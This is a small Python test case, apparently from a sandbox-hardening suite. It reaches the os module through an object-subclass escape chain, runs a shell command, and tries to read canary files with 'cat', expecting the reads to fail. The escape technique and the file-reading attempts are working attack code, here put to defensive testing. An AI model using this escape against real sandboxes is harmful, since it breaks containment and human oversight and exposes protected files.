# id: A29
# tries: to reach os.system from an object, as where the language is the wall
# expect walk: ran
# expect canary: 0 read
import os


def walk():
    for c in ().__class__.__base__.__subclasses__():
        g = getattr(getattr(c, "__init__", None), "__globals__", None)
        if g and "sys" in g and "os" in g["sys"].modules:
            return g["sys"].modules["os"]


o = walk()
print("walk:", "ran" if o.system("true") == 0 else "did not run")
here = os.path.dirname(os.path.abspath(__file__))
n = 0
for p in open(here + "/canary").read().split("\n"):
    n += bool(o.popen("cat '%s' 2>/dev/null" % p).read())
print("canary: %d read" % n)
